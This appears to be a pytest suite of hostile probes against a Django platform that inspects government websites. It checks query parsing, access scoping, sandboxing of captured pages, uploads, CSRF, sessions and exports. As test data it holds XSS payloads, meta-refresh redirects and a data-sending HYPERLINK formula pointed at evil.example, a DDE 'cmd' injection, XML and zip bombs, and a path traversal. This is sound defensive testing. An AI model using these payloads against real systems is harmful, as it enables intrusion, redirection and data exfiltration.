"""Hostile probes of the web platform (a reviewer's tests): scoping a matrix of B's objects cannot see, crawled text
in attributes, odd query parameters, the captured page's headers for odd records, uploads, CSRF and tokens."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.urls import reverse

from captures import write_warc as _warc




B_NAME = "测试县教育局"


def _text(r) -> str:
    if getattr(r, "streaming", False):
        return b"".join(r.streaming_content).decode("utf-8", "replace")
    return r.content.decode("utf-8", "replace")


# ----------------------------------------------------------------------------------------------- odd query parameters
ODD = ["abc", "1.5", "-1", "１", "", "%00", "1e3", "0x10",
       # str.isdigit() is true for "²" but int() refuses it (was a 500 in dashboard.pick_round, portal, rounds.download)
       "²",
       # beyond SQLite's 64-bit integers (was an OverflowError in findings ?unit=/?site= and the API's ?round=/?unit=)
       "9" * 30]


@pytest.mark.parametrize("value", ODD)
def test_odd_query_parameters_never_500(platform, client_for, value):
    c = client_for("office")
    c.raise_request_exception = False
    rid = platform.rounds["current"].pk
    urls = [
        f"/findings/?round={value}", f"/findings/?unit={value}", f"/findings/?site={value}",
        f"/findings/?page={value}", f"/findings/?round={rid}&page=999999",
        f"/dashboard/?round={value}", f"/units/{platform.units['a'].pk}/?round={value}",
        f"/portal/?unit={value}", f"/portal/?round={value}",
        f"/rounds/{rid}/download/rectification/?unit={value}",
        f"/registry/units/?page={value}", f"/registry/websites/?q={value}&page={value}",
        f"/api/v1/findings/?round={value}", f"/api/v1/findings/?unit={value}", f"/api/v1/findings/?page={value}",
        f"/api/v1/rounds/?page={value}",
    ]
    bad = []
    for url in urls:
        r = c.get(url)
        if r.status_code >= 500:
            bad.append(f"{url}: {r.status_code}")
    assert not bad, "server errors on odd query parameters:\n" + "\n".join(bad)
    r = c.get(f"/api/v1/findings/{'9' * 30}/")
    assert r.status_code == 404


# ----------------------------------------------------------------------------------------------- scoping the matrix misses
def test_supervisor_round_pages_name_another_units_scope(platform, client_for):
    """A round scoped to unit B's subtree: its scope line names B to a supervisor of the town."""
    from govinspect.rounds.models import Round

    rnd = Round.objects.create(name="专项检查", as_of=platform.rounds["current"].as_of, status="done",
                               region="测试县", office="办公室", scope_unit=platform.units["b"])
    c = client_for("supervisor")
    leaks = [u for u in (reverse("web:rounds"), reverse("web:round", args=[rnd.pk]))
             if B_NAME in _text(c.get(u))]
    assert not leaks, f"a supervisor of the town reads unit B's name in the scope line of {leaks}"
    for u in (reverse("web:rounds"), reverse("web:round", args=[rnd.pk])):  # it reads that the scope is another unit's
        assert "其他单位（含下级单位）" in _text(c.get(u)), u
        assert f"{B_NAME}（含下级单位）" in _text(client_for("office").get(u)), u  # the office reads the name
        c = client_for("supervisor")
    assert "整个名录（测试县）" in _text(c.get(reverse("web:rounds")))  # the fixture's rounds cover the registry


def test_unit_counts_and_options_carry_only_its_own(platform, client_for):
    """Dropdown options, KPI counts and the API's round counts of unit A: its 3 findings, never B's 2."""
    c = client_for("unit_a")
    rid = platform.rounds["current"].pk
    body = _text(c.get(f"/findings/?round={rid}"))
    options = re.findall(r"<option[^>]*>([^<]*)</option>", body)
    assert not any(B_NAME in o or "教育" in o for o in options), options
    data = c.get(f"/api/v1/rounds/{rid}/").json()
    assert data["counts"]["findings"]["total"] == 3  # privacy, still, new_a; none of B's, not the child centre's
    assert {s["website"] for s in data["sites"]} == {platform.sites["a"].pk}
    assert all(f["unit"]["id"] == platform.units["a"].pk for f in c.get("/api/v1/findings/").json()["results"])


# ----------------------------------------------------------------------------------------------- the captured page
def _capture(platform, name: str, body: bytes, content_type: str | None):
    """Point unit A's privacy finding at a new record; the finding."""
    f = platform.findings["privacy"]
    key = f"rounds/test/hostile/{name}.warc.gz"
    offset = _warc(key, f"http://127.0.0.1:9/a/{name}", body, content_type)
    f.evidence = {**f.evidence, "warc_file": key, "warc_offset": offset}
    f.save(update_fields=["evidence"])
    return f


def _sandboxed(r):
    csp = r.headers.get("Content-Security-Policy", "")
    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";") if d.strip()}
    assert "sandbox" in directives and "allow-scripts" not in csp and "allow-same-origin" not in csp, csp
    assert directives.get("default-src") == "default-src 'none'", csp
    assert r.headers.get("X-Content-Type-Options") == "nosniff"
    assert r.headers.get("X-Frame-Options") == "SAMEORIGIN"


SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>"


@pytest.mark.parametrize("name,body,ct,served", [
    ("no-type", b"<html><script>alert(1)</script><p>x</p>", None, "text/html"),
    ("svg", SVG, "image/svg+xml", "message"),
    ("svg-as-html", SVG, "text/html", "text/html"),
    ("xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
     "application/xhtml+xml", "text/html"),
    ("pdf", b"%PDF-1.4\n<script>alert(1)</script>", "application/pdf", "message"),
    ("utf7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; charset=utf-7", "text/html"),
    ("plain", b"<script>alert(1)</script>", "text/plain", "text/plain"),
])
def test_captured_page_is_sandboxed_whatever_the_record(platform, client_for, name, body, ct, served):
    f = _capture(platform, name, body, ct)
    r = client_for("unit_a").get(reverse("web:finding_page", args=[f.pk]))
    _sandboxed(r)
    got = r.headers["Content-Type"]
    if served == "message":
        assert got.startswith("text/html") and SVG not in r.content and b"%PDF" not in r.content
    else:
        assert got.startswith(served), got
    d = client_for("unit_a").get(reverse("web:finding_page", args=[f.pk]) + "?download=1")
    _sandboxed(d)
    assert d.headers["Content-Type"] == "application/octet-stream"
    assert re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+"', d.headers["Content-Disposition"])


@pytest.mark.parametrize("tag", [
    b'<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    b"<META HTTP-EQUIV=REFRESH CONTENT='0; URL=http://evil.example/'>",
    b'<meta content="0;url=http://evil.example/" http-equiv="Refresh"/>',
    b'<meta\tcontent=0;url=http://evil.example/\nhttp-equiv=refresh>',
    b'<meta http-equiv="&#114;efresh" content="0;url=http://evil.example/">',
    b'<meta data-x=">" http-equiv="refresh" content="0;url=http://evil.example/">',
    b'<meta http-equiv="refresh" content="0;url=http://evil.example/" x="',
])
def test_no_refresh_pragma_survives(platform, client_for, tag):
    f = _capture(platform, "refresh", b"<html><head>" + tag + b"</head><body>x</body></html>", "text/html")
    r = client_for("unit_a").get(reverse("web:finding_page", args=[f.pk]))
    assert not re.search(rb"http-equiv", r.content, re.I), r.content


# ----------------------------------------------------------------------------------------------- crawled text in pages
def test_crawled_text_in_attributes_and_urls_is_inert(platform, client_for):
    """A javascript: URL and quote-breaking text crawled from a page: shown as text, never an href or an attribute."""
    f = platform.findings["new_a"]
    f.url = "javascript:alert(document.cookie)//\"><img src=x onerror=alert(1)>"
    f.column_name = "栏目\"><script>alert(2)</script>"
    f.match = "' onmouseover='alert(3)"
    f.facts = {"newest_url": "javascript:alert(4)", "title\"><b>": "<svg onload=alert(5)>"}
    f.evidence = {"excerpt": "<script>alert(6)</script>恰谈", "hit": [25, 27], "coverage": "<b>x</b>"}
    f.save()
    c = client_for("unit_a")
    for url in (reverse("web:finding", args=[f.pk]), f"/findings/?round={f.round_id}",
                f"/findings/?round={f.round_id}&column=" + f.column_name, reverse("web:portal")):
        body = _text(c.get(url))
        assert "<script>alert" not in body and "<img src=x" not in body and "<svg onload" not in body, url
        assert not re.search(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", body, re.I), url
        assert "onmouseover='alert" not in body, url
    j = c.get(reverse("api:finding-evidence", args=[f.pk]))
    assert j.headers["Content-Type"].startswith("application/json")


# ----------------------------------------------------------------------------------------------- forms and uploads
def _round_form(**over):
    return {"name": "第三季度", "as_of": "2026-09-30", "scope": "", "region": "全县", "office": "县政府办",
            "scheme": "national-2019", "recipients": "", "doc_number": "", "allow_networks": "", "max_pages": "",
            **over}


@pytest.mark.parametrize("over", [
    {"name": "名" * 5000}, {"as_of": "9999-12-31"}, {"as_of": "2026-02-30"}, {"as_of": "<script>"},
    {"allow_networks": "10.0.0.0/8, ::/0, 999.1.1.1/8"}, {"allow_networks": "10.0.0.0/8," * 40},
    {"max_pages": "-1"}, {"max_pages": "1e9"}, {"scope": "999999"}, {"scope": "abc"}, {"scheme": "../../etc/passwd"},
])
def test_round_create_refuses_absurd_input_without_500(platform, client_for, over):
    from govinspect.rounds.models import Round

    c = client_for("office")
    c.raise_request_exception = False
    before = Round.objects.count()
    r = c.post(reverse("web:round_create"), _round_form(**over))
    assert r.status_code < 500, (over, r.status_code)
    if r.status_code == 200:
        assert Round.objects.count() == before and 'class="error"' in _text(r), over


def test_round_create_with_the_earliest_dates(platform, client_for):
    """as_of 0001-01-01 is a valid date to the form; the 91-day period start before it does not exist."""
    c = client_for("office")
    c.raise_request_exception = False
    r = c.post(reverse("web:round_create"), _round_form(as_of="0001-01-01"))
    assert r.status_code < 500, f"round create with as_of 0001-01-01 answers {r.status_code} (OverflowError)"


def _xlsx_zip(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


CT = (b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
      b'spreadsheetml.worksheet+xml"/></Types>')
LOL = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
       b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;">]><worksheet>&lol3;</worksheet>')


@pytest.mark.parametrize("name,data", [
    ("notes.txt", b"just text"),
    ("fake.xlsx", b"PK\x03\x04 not really a zip"),
    ("bomb.xlsx", _xlsx_zip({"[Content_Types].xml": CT, "xl/worksheets/sheet1.xml": b"<a>" + b" " * 60_000_000 + b"</a>"})),
    ("xmlbomb.xlsx", _xlsx_zip({"[Content_Types].xml": CT, "xl/worksheets/sheet1.xml": LOL})),
    ("名录\r\n.xlsx", b"\x00" * 1000),
])
def test_registry_import_refuses_hostile_files_in_chinese(platform, client_for, name, data):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from govinspect.registry.models import Unit, Website

    c = client_for("office")
    before = (Unit.objects.count(), Website.objects.count(), sorted(Unit.objects.values_list("name", flat=True)))
    r = c.post(reverse("web:registry_import"), {"file": SimpleUploadedFile(name, data)})
    assert r.status_code == 400
    body = _text(r)
    assert re.search(r"[\u4e00-\u9fff]{4,}", body.split("<main", 1)[-1])
    assert "Traceback" not in body
    assert (Unit.objects.count(), Website.objects.count(), sorted(Unit.objects.values_list("name", flat=True))) == before


def test_registry_import_too_big_is_refused(platform, client_for, settings):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from govinspect.registry import xlsx

    c = client_for("office")
    r = c.post(reverse("web:registry_import"),
               {"file": SimpleUploadedFile("big.xlsx", b"\x00" * (xlsx.MAX_FILE_BYTES + 1))})
    assert r.status_code == 400 and "文件过大" in _text(r)


# ----------------------------------------------------------------------------------------------- headers, CSRF, sessions
def _strict_csp(r):
    csp = r.headers.get("Content-Security-Policy", "")
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "frame-ancestors 'none'" in csp, csp


def test_error_pages_carry_the_policy(platform, client, client_for):
    from django.test import Client

    c = client_for("unit_a")
    c.raise_request_exception = False
    for url, status in ((f"/findings/{platform.findings['b1'].pk}/", 404), ("/no-such-page/", 404),
                        ("/registry/", 403), ("/portal/?unit=²", 404)):
        r = c.get(url)
        assert r.status_code == status, (url, r.status_code)
        _strict_csp(r)
        assert r.headers.get("X-Frame-Options") == "DENY" and r.headers.get("X-Content-Type-Options") == "nosniff"
        assert "测试县教育局" not in _text(r) and "Traceback" not in _text(r)
    anon = Client()
    for _ in range(6):
        r = anon.post(reverse("web:login"), {"username": "unit_b", "password": "wrong"})
    assert r.status_code in (403, 429)
    _strict_csp(r)


def _boom(request):
    raise RuntimeError("a bug")


urlpatterns = [__import__("django.urls", fromlist=["path"]).path("boom/", _boom)]  # this module as a URLconf


def test_server_error_page_carries_the_policy(platform, client_for, settings):
    """A bug gives the Chinese 500 page under the same headers, without a traceback."""
    settings.ROOT_URLCONF = __name__
    c = client_for("office")
    c.raise_request_exception = False
    r = c.get("/boom/")
    assert r.status_code == 500 and "服务器内部错误" in _text(r) and "Traceback" not in _text(r)
    _strict_csp(r)
    assert r.headers.get("X-Content-Type-Options") == "nosniff"


def test_every_post_needs_the_csrf_token_including_logout(platform):
    from django.test import Client

    c = Client(enforce_csrf_checks=True)
    c.force_login(platform.users["office"])
    rid = platform.rounds["current"].pk
    for url in (reverse("web:logout"), reverse("web:round_create"), reverse("web:round_cancel", args=[rid]),
                reverse("web:finding_ignore", args=[platform.findings["b1"].pk]), reverse("web:password_change"),
                reverse("web:accounts_reset", args=[platform.users["unit_b"].pk])):
        assert c.post(url, {"reason": "x", "name": "x"}).status_code == 403, url
    assert c.get(reverse("web:logout")).status_code == 405  # no sign-out (or anything) by a GET from another site
    assert c.get(reverse("web:dashboard")).status_code == 200  # still signed in


def test_session_cookie_and_debug_defaults(platform, client):
    from django.conf import settings as s

    assert s.DEBUG is False
    assert s.SESSION_SAVE_EVERY_REQUEST and s.SESSION_COOKIE_AGE <= 3600 and s.SESSION_COOKIE_HTTPONLY
    r = client.post(reverse("web:login"), {"username": "unit_a", "password": "Test-Passw0rd-42"})
    cookie = r.cookies["sessionid"]
    assert cookie["httponly"] and cookie["samesite"] == "Lax"


def test_api_token_dies_with_the_account(platform, client):
    from django.test import Client

    from govinspect.web import accounts as service

    t = client.post("/api/v1/auth/token/", {"username": "unit_a", "password": "Test-Passw0rd-42"},
                    content_type="application/json").json()["token"]
    api = Client(HTTP_AUTHORIZATION=f"Token {t}")
    assert api.get("/api/v1/findings/").status_code == 200
    service.deactivate("unit_a")
    assert api.get("/api/v1/findings/").status_code == 401
    assert client.post("/api/v1/auth/token/", {"username": "unit_a", "password": "Test-Passw0rd-42"},
                       content_type="application/json").status_code == 400


@pytest.mark.parametrize("payload", [
    {"html": "<div>" * 200_000 + "中华人民共和国国务院" + "</div>" * 200_000},
    {"text": "\x00\x01\x1b[31m\u202e\ud800中华人民共和国国务院\u2028"},
    {"text": "=HYPERLINK(\"http://evil\")"},
    {"html": "<![CDATA[x]]><!--<script>--><svg><style>&lt;x</style></svg>"},
    {"text": 12}, {"html": None}, {"rules": ["x"] * 100, "text": "a"}, ["text"], "text",
])
def test_check_text_hostile_input(platform, client_for, payload):
    c = client_for("unit_a")
    c.raise_request_exception = False
    r = c.post("/api/v1/check-text/", payload, content_type="application/json")
    assert r.status_code in (200, 400, 413), r.status_code
    assert r.headers["Content-Type"].startswith("application/json")


# ----------------------------------------------------------------------------------------------- accounts and throttles
def test_office_cannot_take_over_a_superuser(platform, client_for):
    """The office manages platform accounts; a Django superuser (createsuperuser, /admin/) is not one of them."""
    from django.contrib.auth.models import User

    root = User.objects.create_superuser("root", password="Root-Passw0rd-99")
    c = client_for("office")
    r = c.post(reverse("web:accounts_reset", args=[root.pk]))
    root.refresh_from_db()
    assert r.status_code in (403, 404) and root.check_password("Root-Passw0rd-99"), (
        f"the office reset the superuser's password (status {r.status_code}): a temporary password for /admin/")


def test_token_throttle_is_not_bypassed_by_x_forwarded_for(platform, client):
    from django.core.cache import cache

    cache.clear()
    codes = [client.post("/api/v1/auth/token/", {"username": f"nobody{i}", "password": "x"},
                         content_type="application/json", HTTP_X_FORWARDED_FOR=f"10.9.{i // 250}.{i % 250}").status_code
             for i in range(40)]
    cache.clear()
    assert 429 in codes, f"40 sign-in attempts a minute from one address, each with its own X-Forwarded-For: {set(codes)}"


def test_a_weak_password_is_refused_at_the_forced_change(platform, client_for):
    """Unit accounts are named unit-<id> (guessable) and lock out per name and address only: a password like 123456
    would fall to one try per account."""
    c = client_for("unit_a")
    r = c.post(reverse("web:password_change"), {"old_password": "Test-Passw0rd-42", "new_password1": "123456",
                                                "new_password2": "123456"})
    platform.users["unit_a"].refresh_from_db()
    assert not platform.users["unit_a"].check_password("123456"), \
        "the password change accepts 123456 (no AUTH_PASSWORD_VALIDATORS in settings.py)"


# ----------------------------------------------------------------------------------------------- exports
def test_downloads_store_crawled_formulas_as_text(platform, client_for):
    """Crawled text beginning with = + - @ in the 整改清单 and 附件 workbooks: text cells, never formulas."""
    from openpyxl import load_workbook

    f = platform.findings["new_a"]
    f.detail = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    f.match = "+cmd|' /C calc'!A0"
    f.column_name = "@SUM(1+1)"
    f.save()
    rid = platform.rounds["current"].pk
    import shutil

    from govinspect.storage import storage

    # the reports of an earlier test's round with this id (the storage outlives each test's database) are not
    # regenerated for a changed finding text: the signature counts findings, it does not read them
    shutil.rmtree(storage().path(f"reports/{rid}"), ignore_errors=True)
    seen = []
    for who, kind in (("unit_a", "rectification"), ("office", "attachment")):
        r = client_for(who).get(reverse("web:round_download", args=[rid, kind]))
        assert r.status_code == 200, (who, kind, r.status_code)
        wb = load_workbook(io.BytesIO(b"".join(r.streaming_content)))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                        assert cell.data_type == "s", (kind, ws.title, cell.coordinate, cell.value)
                        seen.append(cell.value)
    assert any("HYPERLINK" in v for v in seen), "the crawled formula text did not reach the workbooks"


def test_a_renamed_unit_still_gets_its_workbook(platform, client_for):
    """The reports are kept while the round's signature holds; the signature does not include the units' names, and
    the unit -> workbook map (.units.json) is by name: after a rename in the registry the unit's 整改清单 is a 404."""
    import shutil

    from govinspect.storage import storage

    rid = platform.rounds["current"].pk
    shutil.rmtree(storage().path(f"reports/{rid}"), ignore_errors=True)
    url = reverse("web:round_download", args=[rid, "rectification"])
    assert client_for("unit_a").get(url).status_code == 200
    platform.units["a"].name = "测试县卫生健康委员会"
    platform.units["a"].save()
    r = client_for("unit_a").get(url)
    assert r.status_code == 200, f"unit A's 整改清单 after its unit was renamed: {r.status_code}"


def test_confirm_column_with_a_non_numeric_id(platform, client_for):
    c = client_for("office")
    c.raise_request_exception = False
    url = reverse("web:registry_column_confirm", args=[platform.sites["a"].pk])
    codes = {k: c.post(url, {"category": "notice", k: "abc"}).status_code for k in ("column", "check")}
    assert all(v < 500 for v in codes.values()), f"confirm_column with column=abc / check=abc: {codes}"
